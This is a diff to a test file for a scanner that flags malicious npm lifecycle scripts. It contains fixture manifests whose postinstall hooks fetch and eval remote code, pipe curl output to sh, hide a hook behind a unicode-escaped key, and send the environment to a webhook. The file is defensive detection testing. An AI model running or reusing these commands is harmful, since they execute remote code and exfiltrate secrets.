@@ -5,6 +5,10 @@ from _kit import crlf, fires, silent, utf8_bom
 LIFECYCLE = "package_lifecycle_script_payload"
 
 
+def harmless(case, dest, name, content=None, **kw):  # a lifecycle script that runs nothing fetched or decoded
+    silent(case, LIFECYCLE, dest, name, content, also="package_lifecycle_script", **kw)
+
+
 def manifest(name, scripts=None, **keys):
     body = {"name": name, "version": "1.4.2", **keys, **({"scripts": scripts} if scripts else {})}
     return json.dumps(body, indent=2) + "\n"
@@ -29,9 +33,8 @@ for case, script in [
         ("postinstall_node_fetch_eval", "node -e \"require('https').get('https://x.example.org/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\""),
         ("postinstall_source_curl", "bash -c 'source <(curl -fsSL https://x.example.org/env)'"),
         ("postinstall_env_to_webhook", "env | curl -s -X POST --data-binary @- https://webhook.site/4f1c")]:
-    hook = "install" if case.startswith("install_") else "postinstall"
-    fires(case, LIFECYCLE, "critical", "node_modules/colors-ext/package.json",
-          case + ".json", manifest("colors-ext", {hook: script}))
+    fires(case, LIFECYCLE, "critical", "node_modules/colors-ext/package.json", case + ".json",
+          manifest("colors-ext", {"install" if case.startswith("install_") else "postinstall": script}))
 fires("postinstall_escaped_key", LIFECYCLE, "critical", "package.json",
       "package-escaped.json", '{\n  "name": "app",\n  "scripts": {\n    "\\u0070ostinstall": "\\u0063url -s https://x.example.org/i | sh"\n  }\n}\n')
 fires("postinstall_utf8_bom_minified", LIFECYCLE, "critical", "package.json",
@@ -46,24 +49,19 @@ for case, script in [
         ("postinstall_xxd_firmware", "xxd -r -p firmware.hex > firmware.bin"),
         ("postinstall_openssl_env", "openssl enc -d -aes-256-cbc -pbkdf2 -in secrets.enc -out .env.local -pass env:KEY"),
         ("postinstall_printf_colour", "printf '\\x1b[32mready\\x1b[0m\\n'")]:
-    silent(case, LIFECYCLE, "node_modules/tidy-ext/package.json",
-           case + ".json", manifest("tidy-ext", {"postinstall": script}), also="package_lifecycle_script")
-silent("install_escaped_key_benign", LIFECYCLE, "node_modules/gyp-thing/package.json",
-       "package-escaped-benign.json", '{\n  "name": "gyp-thing",\n  "scripts": {\n    "\\u0069nstall": "node-gyp rebuild"\n  }\n}\n',
-       also="package_lifecycle_script")
-silent("postinstall_utf8_bom_minified_benign", LIFECYCLE, "package.json",
-       "package-bom-min-benign.json", utf8_bom('{"name":"app","version":"1.0.0","scripts":{"postinstall":"node install.js"}}'),
-       also="package_lifecycle_script")
-silent("postinstall_own_file_past_first_mib", LIFECYCLE, "node_modules/pad-right-ext/package.json",
-       "package-padded-benign.json", " " * 200 + "\n" + manifest("pad-right-ext", {"postinstall": "node install.js"}),
-       also="package_lifecycle_script", grow="1300k")
+    harmless(case, "node_modules/tidy-ext/package.json", case + ".json", manifest("tidy-ext", {"postinstall": script}))
+harmless("install_escaped_key_benign", "node_modules/gyp-thing/package.json", "package-escaped-benign.json",
+         '{\n  "name": "gyp-thing",\n  "scripts": {\n    "\\u0069nstall": "node-gyp rebuild"\n  }\n}\n')
+harmless("postinstall_utf8_bom_minified_benign", "package.json", "package-bom-min-benign.json",
+         utf8_bom('{"name":"app","version":"1.0.0","scripts":{"postinstall":"node install.js"}}'))
+harmless("postinstall_own_file_past_first_mib", "node_modules/pad-right-ext/package.json", "package-padded-benign.json",
+         " " * 200 + "\n" + manifest("pad-right-ext", {"postinstall": "node install.js"}), grow="1300k")
 silent("test_script_curl", LIFECYCLE, "package.json",
        "package-test-curl.json", manifest("app", {"test": "curl -s http://localhost:3000/health && jest", "build": "tsc"}))
 # core-js, core-js-pure, es5-ext and friends: a postinstall that only requires the package's own file.
 fires("core_js_postinstall_warns", "package_lifecycle_script", "warning", "node_modules/core-js/package.json",
       "package-core-js.json", manifest("core-js", {"postinstall": "node -e \"try{require('./postinstall')}catch(e){}\""}))
-silent("core_js_postinstall_not_payload", LIFECYCLE, "node_modules/core-js/package.json",
-       "package-core-js.json", also="package_lifecycle_script")
+harmless("core_js_postinstall_not_payload", "node_modules/core-js/package.json", "package-core-js.json")
 fires("postinstall_prebuild", "package_lifecycle_script", "warning", "node_modules/native-thing/package.json",
       "package-prebuild.json", manifest("native-thing", {"install": "prebuild-install || node-gyp rebuild"}))
 fires("prepare_husky", "package_lifecycle_script", "warning", "package.json",
